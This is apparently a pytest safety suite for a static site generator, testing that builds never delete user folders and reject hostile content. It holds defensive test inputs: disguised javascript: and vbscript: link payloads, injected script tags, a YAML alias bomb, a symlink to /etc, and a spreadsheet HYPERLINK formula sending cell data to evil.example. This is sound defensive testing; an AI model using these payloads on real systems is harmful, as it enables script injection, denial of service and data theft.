"""Safe with any input and any folder: nothing destroyed, no script published, no hang, no traceback, nothing
silently read or dropped. (The dev server's side of it is in tests/test_serve_safety.py, the limits on Markdown
in tests/test_limits.py.)"""
from __future__ import annotations

import marshal
import os
import re
import resource
import shutil
import signal
import subprocess
import sys
import time
import xml.etree.ElementTree as ElementTree
from collections.abc import Iterator
from contextlib import contextmanager
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from portal import cache, cli, markup, output, pages, pipeline, render, sanitise, urls
from portal.problems import ContentError
from tests.conftest import PROJECT
from tests.sitefactory import casestudy, write_content

CS = "content/casestudies/01-friends-of-parks.md"


def run(tmp_path: Path, capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str]:
    """Run the command line in tmp_path; return its exit status and what it printed to stderr."""
    os.chdir(tmp_path)
    status = cli.main(list(argv))
    return status, capsys.readouterr().err


def snapshot(folder: Path) -> dict[str, bytes]:
    """Every file below a folder, by relative path, with its bytes."""
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


# --- Nothing destroyed -----------------------------------------------------------------------------------------

@pytest.mark.parametrize(("out", "why"), [
    ("content", "is or holds the content folder"),
    (".", "is or holds the content folder"),
    ("content/casestudies", "is inside the content folder"),
    ("content/site", "is inside the content folder"),
])
def test_the_content_folder_is_never_the_output(tmp_path: Path, capsys: pytest.CaptureFixture[str], out: str,
                                                 why: str) -> None:
    write_content(tmp_path)
    before = snapshot(tmp_path)
    status, err = run(tmp_path, capsys, "build", "--out", out, "--no-search")
    assert status == 2
    assert why in err and err.count("\n") == 1, err
    assert snapshot(tmp_path) == before


def test_a_git_repository_is_never_the_output(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    write_content(tmp_path)
    clone = tmp_path / "clone"
    subprocess.run(["git", "init", "-q", str(clone)], check=True)
    (clone / "work.txt").write_text("uncommitted work", encoding="utf-8")
    before = snapshot(clone)
    status, err = run(tmp_path, capsys, "build", "--out", "clone", "--no-search")
    assert status == 2
    assert err == ("error: the output folder clone holds a Git repository (.git), which the build would delete: pass "
                   "a new folder for the site, such as --out site\n")
    assert snapshot(clone) == before


def test_the_project_and_home_folders_are_never_the_output(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    content = write_content(tmp_path)
    with pytest.raises(output.RefusedFolder, match="is or holds the project folder"):
        output.refuse(PROJECT, content, PROJECT)  # asked directly: were the guard gone, a build would delete it
    with pytest.raises(output.RefusedFolder, match="is or holds the project folder"):
        output.refuse(PROJECT.parent, content, PROJECT)
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    status, err = run(tmp_path, capsys, "build", "--out", "home", "--no-search")
    assert (status, "is or holds the home folder" in err) == (2, True), err
    assert home.is_dir()


def test_a_file_or_a_link_is_never_the_output(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    write_content(tmp_path)
    (tmp_path / "notes.txt").write_text("keep me", encoding="utf-8")
    status, err = run(tmp_path, capsys, "build", "--out", "notes.txt", "--no-search")
    assert (status, err) == (2, "error: notes.txt is a file, not a folder: pass a new folder for the site, such as "
                                "--out site\n")
    assert (tmp_path / "notes.txt").read_text(encoding="utf-8") == "keep me"
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "keep.txt").write_text("keep me", encoding="utf-8")
    (tmp_path / "site").symlink_to(tmp_path / "elsewhere")
    status, err = run(tmp_path, capsys, "build", "--out", "site", "--no-search")
    assert status == 2 and "is a link to" in err, err
    assert (tmp_path / "elsewhere" / "keep.txt").read_text(encoding="utf-8") == "keep me"


def test_a_folder_the_portal_did_not_write_is_never_replaced(tmp_path: Path,
                                                             capsys: pytest.CaptureFixture[str]) -> None:
    write_content(tmp_path)
    (tmp_path / "site" / "photos").mkdir(parents=True)
    (tmp_path / "site" / "photos" / "holiday.jpg").write_bytes(b"a photo")
    status, err = run(tmp_path, capsys, "build", "--no-search")
    assert status == 2
    assert err.startswith("error: the output folder site holds files the portal did not write (such as "
                          "site/photos/holiday.jpg), which building would delete")
    assert snapshot(tmp_path / "site") == {"photos/holiday.jpg": b"a photo"}


def test_the_portals_own_site_is_rebuilt_but_a_file_added_to_it_is_kept(tmp_path: Path,
                                                                        capsys: pytest.CaptureFixture[str]) -> None:
    write_content(tmp_path)
    assert run(tmp_path, capsys, "build", "--no-search", "--no-cache")[0] == 0
    listed = output.written_by_portal(tmp_path / "site")
    assert "index.html" in listed and "casestudies/01-friends-of-parks/index.html" in listed
    (tmp_path / "content" / "casestudies" / "02-mystery-shopper.md").unlink()
    assert run(tmp_path, capsys, "build", "--no-search", "--no-cache")[0] == 0  # rebuilt: a page is gone
    assert not (tmp_path / "site" / "casestudies" / "02-mystery-shopper").exists()
    (tmp_path / "site" / "CNAME").write_text("equality.example.org", encoding="utf-8")
    status, err = run(tmp_path, capsys, "build", "--no-search", "--no-cache")
    assert status == 2 and "(such as site/CNAME)" in err, err
    assert (tmp_path / "site" / "CNAME").read_text(encoding="utf-8") == "equality.example.org"


def test_an_old_site_is_deleted_only_as_far_as_its_list_goes(tmp_path: Path) -> None:
    site = tmp_path / "site"
    (site / "a").mkdir(parents=True)
    (site / "a" / "index.html").write_text("ours", encoding="utf-8")
    output.mark(site)
    (site / "a" / "theirs.txt").write_text("not ours", encoding="utf-8")  # came after the list was made
    stage = tmp_path / "stage"
    stage.mkdir()
    (stage / output.LOCK).touch()
    output.replace(stage, site)
    left = [p for p in tmp_path.iterdir() if p.name.startswith(".site-old-")]
    assert [snapshot(p) for p in left] == [{"a/theirs.txt": b"not ours"}]


def test_a_mount_point_is_never_the_output(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert os.path.ismount("/dev/shm"), "this test needs /dev/shm, a mount point on Linux"
    write_content(tmp_path)
    status, err = run(tmp_path, capsys, "build", "--out", "/dev/shm", "--no-search")
    assert (status, err) == (2, "error: the output folder /dev/shm is a mount point, which the build cannot replace: "
                                "pass a folder inside it, such as --out /dev/shm/site\n")


@contextmanager
def read_only(folder: Path) -> Iterator[None]:
    """A folder nothing can be written into, not even by root (who ignores permissions): immutable."""
    if os.geteuid() == 0:
        subprocess.run(["chattr", "+i", str(folder)], check=True)
    else:
        folder.chmod(0o555)
    try:
        yield
    finally:
        if os.geteuid() == 0:
            subprocess.run(["chattr", "-i", str(folder)], check=True)
        else:
            folder.chmod(0o755)


def test_a_read_only_folder_is_one_sentence_and_the_last_site_stays(tmp_path: Path,
                                                                    capsys: pytest.CaptureFixture[str]) -> None:
    write_content(tmp_path)
    (tmp_path / "public").mkdir()
    assert run(tmp_path, capsys, "build", "--out", "public/site", "--no-search", "--no-cache")[0] == 0
    before = snapshot(tmp_path / "public")
    (tmp_path / "content" / "casestudies" / "02-mystery-shopper.md").unlink()
    with read_only(tmp_path / "public"):
        status, err = run(tmp_path, capsys, "build", "--out", "public/site", "--no-search", "--no-cache")
    assert status == 2
    assert re.fullmatch(r"error: could not write the site into \S+/public/site: permission was refused \(\S+\); "
                        r"nothing was published, and the last good site is as it was\n", err), err
    assert snapshot(tmp_path / "public") == before


def limited_to(size: int) -> None:
    """In a child: writing a file past `size` bytes fails, as on a full disk (EFBIG rather than ENOSPC)."""
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (size, size))


@pytest.mark.parametrize("search", [False, True])
def test_a_full_disk_is_one_sentence_and_the_last_site_stays(tmp_path: Path, search: bool) -> None:
    write_content(tmp_path)
    command = [sys.executable, str(PROJECT / "build.py"), "build", "--no-cache", *([] if search else ["--no-search"])]
    assert subprocess.run(command, cwd=tmp_path, capture_output=True, check=False).returncode == 0
    before = snapshot(tmp_path / "site")
    (tmp_path / "content" / "casestudies" / "02-mystery-shopper.md").unlink()
    done = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, preexec_fn=lambda: limited_to(40_000 if search else 2_000),
                          check=False)
    assert done.returncode == 2, done.stderr
    assert "Traceback" not in done.stderr and done.stderr.count("\n") == 1, done.stderr
    assert "nothing was published" in done.stderr
    assert snapshot(tmp_path / "site") == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["content", "site"]


BROKEN_PAGEFIND = f"""#!{sys.executable}
import sys
from pathlib import Path
out = Path(sys.argv[sys.argv.index("--output-path") + 1])
out.mkdir(parents=True)
(out / "pagefind-entry.json").write_text('{{"vers')  # cut short, as on a full disk, and yet:
sys.exit(0)
"""


@pytest.mark.parametrize(("free", "status", "expected"), [
    (0, 2, "the disk is full"),
    (10**12, 3, "search indexing failed (SearchIndexError: Pagefind said it had finished, but its index cannot be "
                "read (JSONDecodeError: "),
])
def test_a_pagefind_that_says_it_finished_but_did_not_is_caught(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                                monkeypatch: pytest.MonkeyPatch, free: int,
                                                                status: int, expected: str) -> None:
    write_content(tmp_path)
    pagefind = tmp_path / "broken-pagefind"
    pagefind.write_text(BROKEN_PAGEFIND, encoding="utf-8")
    pagefind.chmod(0o755)
    monkeypatch.setattr("pagefind_bin.get_executable", lambda: pagefind)
    monkeypatch.setattr("shutil.disk_usage", lambda _path: shutil._ntuple_diskusage(10**12, 10**12 - free, free))
    code, err = run(tmp_path, capsys, "build", "--no-cache")
    assert (code, expected in err, "Traceback" in err) == (status, True, False), err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["broken-pagefind", "content"]


SLOW_PAGEFIND = f"#!{sys.executable}\nimport time\ntime.sleep(600)\n"
KILLABLE = """
import sys
from pathlib import Path
import pagefind_bin
pagefind_bin.get_executable = lambda: Path(sys.argv[1])  # a Pagefind that never finishes
from portal.cli import main
sys.exit(main(sys.argv[2:]))
"""


def _processes_running(program: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and program in (entry / "cmdline").read_bytes().decode(errors="replace"):
                found.append(int(entry.name))
        except OSError:
            continue
    return found


def _wait_for(condition: object, what: str, seconds: float = 30) -> None:
    deadline = time.monotonic() + seconds
    while not condition():  # type: ignore[operator]
        assert time.monotonic() < deadline, what
        time.sleep(0.05)


def test_a_killed_build_leaves_nothing_running_and_the_next_build_clears_what_it_left(tmp_path: Path) -> None:
    write_content(tmp_path)
    pagefind = tmp_path / "slow-pagefind"
    pagefind.write_text(SLOW_PAGEFIND, encoding="utf-8")
    pagefind.chmod(0o755)
    build = subprocess.Popen([sys.executable, "-c", KILLABLE, str(pagefind), "build", "--no-cache"], cwd=tmp_path,
                             env={**os.environ, "PYTHONPATH": str(PROJECT)})
    stage_args = f"{tmp_path}/.site-new-"
    _wait_for(lambda: _processes_running(stage_args), "the build did not start Pagefind")
    build.send_signal(signal.SIGKILL)
    build.wait()
    _wait_for(lambda: not _processes_running(stage_args), "Pagefind ran on after the build was killed", 5)
    left = [p.name for p in tmp_path.iterdir() if p.name.startswith(".site-new-")]
    assert len(left) == 1  # the killed build's half-made site
    unrelated = tmp_path / ".site-new-not-ours"  # a folder of that name the portal did not make: kept
    unrelated.mkdir()
    done = subprocess.run([sys.executable, str(PROJECT / "build.py"), "build", "--no-cache", "--no-search"],
                          cwd=tmp_path, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == [".site-new-not-ours", "content", "site", "slow-pagefind"]


def _state(pid: int) -> tuple[str, int] | None:
    """A process's state letter and parent, or None if there is no such process."""
    try:
        fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    except OSError:
        return None
    return fields[0], int(fields[1])


def _running(pid: int) -> bool:
    state = _state(pid)
    return state is not None and state[0] != "Z"


def test_render_workers_die_with_the_build() -> None:
    script = ("import time\nfrom portal import parallel\n"
              "with parallel.forked(None) as pool:\n    pool.map_async(time.sleep, [600] * 64)\n"
              "    time.sleep(0.5)\n    print('started', flush=True)\n    time.sleep(600)\n")  # workers busy
    parent = subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.PIPE, text=True, cwd=PROJECT)
    assert parent.stdout.readline() == "started\n"  # type: ignore[union-attr]
    workers = [int(p.name) for p in Path("/proc").iterdir() if p.name.isdigit()
               and (_state(int(p.name)) or ("", 0))[1] == parent.pid]
    assert workers, "the pool has no workers"
    parent.kill()
    parent.wait()
    _wait_for(lambda: not any(map(_running, workers)), "a worker ran on after the build was killed", 5)


# --- No script in any disguise ---------------------------------------------------------------------------------

UNSAFE = "is not allowed: link to a page of this site, or to an address starting https://, mailto: or tel:"
DISGUISES = {  # a body, the line of the problem and the target as the message shows it
    "character reference": ("[x](jav&#97;script:alert(1))", 11, "jav&#97;script:alert(1)"),
    "hexadecimal reference": ("[x](&#x6A;avascript:alert(1))", 11, "&#x6A;avascript:alert(1)"),
    "percent-encoding": ("[x](%6Aavascript:alert(1))", 11, "%6Aavascript:alert(1)"),
    "upper case": ("[x](JaVaScRiPt:alert(1))", 11, "JaVaScRiPt:alert(1)"),
    "angle brackets": ("[x](<javascript:alert(1)>)", 11, "javascript:alert(1)"),
    "spaces around": ("[x](  javascript:alert(1)  )", 11, "javascript:alert(1)"),
    "on the next line": ("A [link](\njavascript:alert(1)) here.", 12, "javascript:alert(1)"),
    "reference style": ("See [the page][1].\n\n[1]: javascript:alert(1)", 13, "javascript:alert(1)"),
    "autolink": ("Go to <javascript:alert(1)> now.", 11, "javascript:alert(1)"),
    "image": ("![A chart](data:image/png;base64,iVBORw0KGgo=)", 11, "data:image/png;base64,iVBORw0KGgo="),
    "vbscript": ("[x](vbscript:msgbox(1))", 11, "vbscript:msgbox(1)"),
    "ftp autolink": ("<ftp://example.org/file>", 11, "ftp://example.org/file"),
}


@pytest.mark.parametrize("name", DISGUISES)
def test_a_link_to_a_script_in_any_disguise_is_a_problem(name: str, tmp_path: Path,
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    body, line, shown = DISGUISES[name]
    write_content(tmp_path, {"casestudies/01-friends-of-parks.md": casestudy(1, body=body + "\n")})
    for command in (["check"], ["check", "--strict"], ["build", "--no-search"]):
        status, err = run(tmp_path, capsys, *command)
        assert status == 1, (command, err)
        assert any(problem.startswith(f"{CS}:{line}: the link target `{shown[:20]}") and problem.endswith(UNSAFE)
                   for problem in err.splitlines()), (command, err)
    assert not (tmp_path / "site").exists()


def test_a_settings_address_must_be_a_web_address(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    write_content(tmp_path, {"site.yaml": (
        'title: "T"\nowner: "O"\ndescription: "D"\ncolour: "#00594f"\nlicence: "L"\n'
        'licence_url: "javascript:alert(3)"\ncontact_email: "equalities@example.gov.uk?subject=x"\n')})
    status, err = run(tmp_path, capsys, "check")
    assert status == 1
    assert err.splitlines()[:2] == [
        "content/site.yaml:6: `licence_url` must be a web address starting https:// or http://, such as "
        "`licence_url: \"https://www.nationalarchives.gov.uk/doc/open-government-licence/version/3/\"`; found "
        "'javascript:alert(3)'",
        "content/site.yaml:7: `contact_email` must be an email address, such as `contact_email: "
        "\"equalities@example.gov.uk\"`; found 'equalities@example.gov.uk?subject=x'"]


class Scripts(HTMLParser):
    """Collects what in a page could run a script: script elements, event handler attributes, unsafe targets."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "iframe", "object", "embed"):
            self.found.append(f"<{tag} {dict(attrs).get('src')}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("href", "src", "action") and not urls.is_safe(value or ""):
                self.found.append(f"{tag} {name}={value}")


SEARCH_SCRIPT = re.compile(r"<script \.\./assets/search\.js\?v=[0-9a-f]+>")


def scripts_in(folder: Path) -> dict[str, list[str]]:
    """What could run a script, page by page, for the pages that have anything, but the search page's own script."""
    found = {}
    for page in sorted(folder.rglob("*.html")):
        parser = Scripts()
        parser.feed(page.read_text(encoding="utf-8"))
        name = page.relative_to(folder).as_posix()
        scripts = [s for s in parser.found if name != "search/index.html" or not SEARCH_SCRIPT.fullmatch(s)]
        if scripts:
            found[name] = scripts
    return found


def test_no_page_of_the_real_site_runs_a_script_but_search(built: tuple[Path, object]) -> None:
    assert scripts_in(built[0]) == {}
    search_page = Scripts()
    search_page.feed((built[0] / "search" / "index.html").read_text(encoding="utf-8"))
    assert [bool(SEARCH_SCRIPT.fullmatch(found)) for found in search_page.found] == [True]


POISON = '<script>alert(1)</script><a href="javascript:alert(2)" onclick="alert(3)">poison</a>'


def _poison_cache(folder: Path, seal: bool) -> int:
    """Put a script into every rendering in the cache file, sealed with this user's key or not; return how many."""
    file = folder / "markdown.marshal"
    entries = marshal.loads(file.read_bytes())
    key = cache.secret()
    for digest, (html, headings, dropped, old_seal) in entries.items():
        poisoned = html + POISON
        entries[digest] = (poisoned, headings, dropped,
                           cache._seal(digest, poisoned, headings, dropped, key) if seal else old_seal)
    file.write_bytes(marshal.dumps(entries))
    return len(entries)


@pytest.mark.parametrize("seal", [False, True])  # edited by hand or in a pull request; made with the key itself
def test_a_poisoned_cache_publishes_no_script(tmp_path: Path, capsys: pytest.CaptureFixture[str], seal: bool) -> None:
    write_content(tmp_path)
    assert run(tmp_path, capsys, "build", "--no-search", "--out", "first")[0] == 0
    assert _poison_cache(tmp_path / ".portal-cache", seal) > 0
    for command in (["check", "--strict"], ["build", "--no-search", "--out", "second"]):
        assert run(tmp_path, capsys, *command)[0] == 0
    assert scripts_in(tmp_path / "second") == {}
    page = (tmp_path / "second" / "casestudies" / "01-friends-of-parks" / "index.html").read_text(encoding="utf-8")
    assert "We met the Friends groups." in page
    assert ("poison" in page) == seal  # an entry not sealed with this user's key is not used at all
    assert snapshot(tmp_path / "second") == snapshot(tmp_path / "first") or seal


def test_what_comes_from_a_cache_is_sanitised_like_fresh_output() -> None:
    class Poisoned:
        def lookup(self, texts: list[str]) -> dict[str, markup.Rendered]:
            return {text: markup.Rendered(f"<p>{text}</p>{POISON}", ()) for text in texts}

        def store(self, rendered: dict[str, markup.Rendered]) -> None:
            pass

    rendered = markup.render_all(["Hello"], Poisoned())
    assert rendered["Hello"].html == "<p>Hello</p><a>poison</a>"
    assert isinstance(rendered["Hello"].html, sanitise.Clean)


def test_html_a_template_marks_safe_is_sanitised(tmp_path: Path) -> None:
    (tmp_path / "page.html").write_text("{{ html | safe }}", encoding="utf-8")
    template = render.environment(tmp_path).get_template("page.html")
    assert template.render(html=f"<p>Hello</p>{POISON}") == "<p>Hello</p><a>poison</a>"
    clean = sanitise.clean("<p>Already clean</p>")
    assert template.render(html=clean) == "<p>Already clean</p>"
    assert isinstance(markup.embed(clean, "x", 1), sanitise.Clean)  # moving headings keeps it clean


# --- No hang, no crash -----------------------------------------------------------------------------------------

def _bomb() -> str:
    """About 1 KB of YAML that, aliases followed, is some 10^9 list items."""
    lines = ['a0: &a0 ["2.1", "2.1", "2.1", "2.1", "2.1", "2.1", "2.1", "2.1", "2.1"]']
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 9)]
    return "\n".join(lines) + "\nactions: [*a8, *a8, *a8, *a8, *a8, *a8, *a8, *a8, *a8]\n"


FRONT_MATTER = {  # front matter, and the problem (line and message) it must give
    "alias bomb": (_bomb(), "2: anchors and aliases (`&name`, `*name`) are not allowed in front matter: write each "
                   "value out in full, and put text that starts with & or * in double quotes"),
    "brackets thirty thousand deep": ("actions: " + "[" * 30_000 + "]" * 30_000,
                                         "2: brackets are nested more than 8 deep: a field's value is text, a number, "
                                         "a date or one list such as [\"2.1\", \"2.4\"]"),
    "a date that does not exist": ("updated: 2024-02-30",
                                   "2: `updated` is not a real date (2024-02-30): write a date that exists, as "
                                   "YYYY-MM-DD"),
    "not an integer": ("number: !!int abc", "2: the value of `number` is marked `!!int` but abc is not one: remove "
                       "the `!!int`, and put text in double quotes"),
    "not a float": ("number: !!float abc", "2: the value of `number` is marked `!!float` but abc is not one: remove "
                    "the `!!float`, and put text in double quotes"),
    "a field given twice": ('title: "A"\nnumber: 1\ntitle: "B"', "4: the field `title` is given twice (also on line "
                            "2): keep one of them"),
}


@pytest.mark.parametrize("name", FRONT_MATTER)
def test_front_matter_that_would_crash_or_hang_is_a_problem(name: str, tmp_path: Path,
                                                           capsys: pytest.CaptureFixture[str]) -> None:
    front, expected = FRONT_MATTER[name]
    write_content(tmp_path, {"casestudies/01-friends-of-parks.md": f"---\n{front}\n---\n\nText.\n"})
    started = time.perf_counter()
    status, err = run(tmp_path, capsys, "check")
    assert time.perf_counter() - started < 2
    assert status == 1
    assert f"{CS}:{expected}" in err.splitlines(), err
    assert max(map(len, err.splitlines())) < 400  # never the whole value


MARKDOWN = {  # a body that would crash or hang Python-Markdown, and the start of its problem
    "lists nested 150 deep": ("".join("    " * depth + "- item\n" for depth in range(150)), "19: "),
    "quotes nested 300 deep": ("> " * 300 + "quoted", "11: "),
    "lists nested 10,000 deep on one line": ("- " * 10_000 + "item", "11: "),
    "50,000 brackets on one line": ("[" * 50_000, "11: "),
    "8,000 brackets on one line": ("[" * 8_000, "11: "),
}


@pytest.mark.parametrize("name", MARKDOWN)
def test_markdown_that_would_crash_or_hang_is_a_problem(name: str, tmp_path: Path,
                                                        capsys: pytest.CaptureFixture[str]) -> None:
    body, start = MARKDOWN[name]
    write_content(tmp_path, {"casestudies/01-friends-of-parks.md": casestudy(1, body=body)})
    started = time.perf_counter()
    status, err = run(tmp_path, capsys, "check")
    assert time.perf_counter() - started < 2
    assert status == 1 and err.startswith(f"{CS}:{start}"), err
    assert "Traceback" not in err and max(map(len, err.splitlines())) < 400


def test_a_long_value_is_never_printed_whole(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    write_content(tmp_path, {"casestudies/01-friends-of-parks.md": casestudy(1).replace(
        "number: 1", "number: [" + ", ".join(['"x"'] * 5000) + "]")})
    status, err = run(tmp_path, capsys, "check")
    assert status == 1
    assert f"{CS}:3: `number` must be a whole number, such as `number: 7`; found ['x', 'x', 'x', 'x', ...] (list)" \
        in err.splitlines()
    write_content(tmp_path, {"casestudies/01-friends-of-parks.md": casestudy(1).replace(
        "number: 1", "number: " + "nine" * 2000)})
    status, err = run(tmp_path, capsys, "check")
    assert f"{CS}:3: `number` must be a whole number, such as `number: 7`; found 'nineninenineninenineni..." \
           "inenineninenineninenine'" in err.splitlines()


@pytest.mark.parametrize(("name", "expected"), [
    ("search", "a page called `search` would have the address search/, which the portal uses for its own pages or "
     "files: rename the file, such as search-information.md"),
    ("data", "a page called `data` would have the address data/"),
    ("evidence-map", "a page called `evidence-map` would have the address evidence-map/"),
    ("casestudies", "a page called `casestudies` would have the address casestudies/"),
    ("assets", "a page called `assets` would have the address assets/"),
    ("feed.xml", "the file name `feed.xml` is used in the page's address, so it must be lower-case letters, digits "
     "and hyphens, such as accessibility.md: rename the file"),
    ("404.html", "the file name `404.html` is used in the page's address"),
    ("index.html", "the file name `index.html` is used in the page's address"),
    ("Our Values", "the file name `Our Values` is used in the page's address"),
])
def test_a_page_cannot_take_the_address_of_another(name: str, expected: str, tmp_path: Path,
                                                   capsys: pytest.CaptureFixture[str]) -> None:
    write_content(tmp_path, {f"pages/{name}.md": '---\ntitle: "A page"\n---\n\nText.\n'})
    for command in (["check"], ["build", "--no-search"]):
        status, err = run(tmp_path, capsys, *command)
        assert status == 1, err
        assert any(line.startswith(f"content/pages/{name}.md:1: {expected}") for line in err.splitlines()), err


def test_the_reserved_addresses_are_those_the_portal_makes(built: tuple[Path, object]) -> None:
    out, site = built
    made = {p.name for p in out.iterdir() if p.is_dir()} - {page.slug for page in site.pages}  # type: ignore[attr-defined]
    assert made <= pages.RESERVED
    assert pages.RESERVED - made == {"_dev"}  # the dev server's error list: served, never written


def test_a_very_long_title_makes_a_short_file_name(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    write_content(tmp_path)
    status = run(tmp_path, capsys, "new", "casestudy", "Transformation" * 22)[0]
    printed = capsys.readouterr()
    assert status == 0, printed
    made = list((tmp_path / "content" / "casestudies").glob("03-*.md"))
    assert len(made) == 1 and len(made[0].name) <= 70
    assert run(tmp_path, capsys, "check")[0] == 0


def test_an_internal_error_is_one_sentence_and_exit_3(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    write_content(tmp_path)

    def broken(*_args: object, **_kwargs: object) -> None:
        raise KeyError("a bug")

    monkeypatch.setattr(pipeline, "check", broken)
    status, err = run(tmp_path, capsys, "check")
    assert status == 3
    assert err == ("error: an internal error stopped the portal (KeyError: 'a bug'); this is not a problem in your "
                   f"content, and nothing was published: please report it to {cli.REPORT_TO}, with the command you "
                   "ran and what it prints when run again with --debug.\n")
    status, err = run(tmp_path, capsys, "check", "--debug")
    assert status == 3 and err.startswith("Traceback (most recent call last):") and "KeyError: 'a bug'" in err


def test_exit_codes_ci_can_rely_on(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    write_content(tmp_path)
    assert run(tmp_path, capsys, "check")[0] == 0
    assert run(tmp_path, capsys, "build", "--base-url", "https://x.org/a b/")[0] == 2
    assert run(tmp_path, capsys, "build", "--out", "content")[0] == 2
    (tmp_path / "content" / "casestudies" / "01-friends-of-parks.md").write_text("no front matter", encoding="utf-8")
    assert run(tmp_path, capsys, "check")[0] == 1


# --- Nothing silently read or dropped --------------------------------------------------------------------------

def test_what_the_content_folder_holds_and_is_not_read_is_reported(tmp_path: Path,
                                                                   capsys: pytest.CaptureFixture[str]) -> None:
    content = write_content(tmp_path)
    studies = content / "casestudies"
    (studies / ".07-offender-services.md").write_text(casestudy(7), encoding="utf-8")
    (studies / "08-gone.md").symlink_to(tmp_path / "nowhere.md")
    (studies / "09-loop.md").symlink_to(studies / "09-loop.md")
    os.mkfifo(studies / "10-pipe.md")
    (studies / "archive").mkdir()
    (studies / "archive" / "11-old.md").write_text(casestudy(11), encoding="utf-8")
    (tmp_path / "outside.md").write_text(casestudy(12, "Outside"), encoding="utf-8")
    (studies / "12-outside.md").symlink_to(tmp_path / "outside.md")
    (content / "casestudy").mkdir()
    (content / "pages").symlink_to("/etc")
    (content / "notes.txt").write_text("notes", encoding="utf-8")
    started = time.perf_counter()
    status, err = run(tmp_path, capsys, "check")
    assert time.perf_counter() - started < 5  # the pipe is never opened, which would wait for ever
    assert status == 1
    assert err.splitlines() == [
        "content/casestudies/.07-offender-services.md:1: this file is hidden (its name starts with a dot), so it is "
        "not read: rename it to `07-offender-services.md`, or delete it",
        f"content/casestudies/08-gone.md:1: this is a link that leads to {tmp_path}/nowhere.md, which does not exist: "
        "replace it with the file itself",
        "content/casestudies/09-loop.md:1: this is a link that leads round in a circle: replace it with the file itself",
        "content/casestudies/10-pipe.md:1: this is not a regular file, so it is not read here: move its files into "
        "content/casestudies/ itself",
        "content/casestudies/12-outside.md:1: this is a link to " + str(tmp_path / "outside.md") + ", outside the content "
        "folder, which is not read: put the file itself in the content folder",
        "content/casestudies/archive:1: this is a folder, so it is not read here: move its files into "
        "content/casestudies/ itself",
        "content/casestudy:1: this is not read: did you mean `casestudies`? the content folder holds only site.yaml "
        "and synonyms.yaml and the folders actions, areas, casestudies, groups, organisations, pages, progress, sources",
        "content/notes.txt:1: this is not read: the content folder holds only site.yaml and synonyms.yaml and the "
        "folders actions, areas, casestudies, groups, organisations, pages, progress, sources",
        "content/pages:1: this is a link to /etc, outside the content folder, which is not read: put the folder itself "
        "in the content folder",
        f"{len(err.splitlines()) - 1} problems found.",
    ]
    assert "passwd" not in err


@pytest.mark.parametrize(("character", "name"), [("\x0c", "a form feed"), ("\x1b", "an escape character"),
                                                 ("\x00", "a null character"), ("\x85", "a control character")])
def test_an_invisible_control_character_is_a_problem(character: str, name: str, tmp_path: Path,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    write_content(tmp_path, {"casestudies/01-friends-of-parks.md": casestudy(1, title=f"Friends{character} of Parks")})
    status, err = run(tmp_path, capsys, "check", "--strict")
    assert status == 1
    assert f"{CS}:2: this line holds an invisible character, U+{ord(character):04X} ({name}), which would break the " \
           "site's feed and pages: delete it (retype the line if you cannot see where it is)" in err.splitlines()


ODD_TITLES = ["Fish & Chips <Ltd>", "“Quoted” 'and' \"double\"", "Emoji 🌈 and ‮right-to-left‬", "Tab\there",
              "]]> and <!-- and -->", "Ampersand &amp; entity"]


def test_feed_and_sitemap_are_always_well_formed(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                 built: tuple[Path, object]) -> None:
    changes = {f"casestudies/{n + 1:02d}-study-{n + 1}.md": casestudy(n + 1, title.replace('"', '\\"'))
               for n, title in enumerate(ODD_TITLES)}
    write_content(tmp_path, {"casestudies/01-friends-of-parks.md": None, "casestudies/02-mystery-shopper.md": None,
                             **changes})
    assert run(tmp_path, capsys, "build", "--no-search", "--base-url", "https://example.org/a&b/")[0] == 0
    for folder in (built[0], tmp_path / "site"):
        feed = ElementTree.parse(folder / "feed.xml").getroot()
        ElementTree.parse(folder / "sitemap.xml")
    titles = [e.text for e in feed.iter("{http://www.w3.org/2005/Atom}title")]  # the odd site's, read back
    assert sorted(titles[1:]) == sorted(ODD_TITLES)


def test_a_formula_in_a_csv_cell_is_made_plain_text(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    title = '=HYPERLINK("https://evil.example/?"&A1, "Click")'
    write_content(tmp_path, {"casestudies/01-friends-of-parks.md": casestudy(1, title.replace('"', '\\"')).replace(
        'summary: "We met', 'summary: "-1 We met', 1)})
    assert run(tmp_path, capsys, "build", "--no-search")[0] == 0
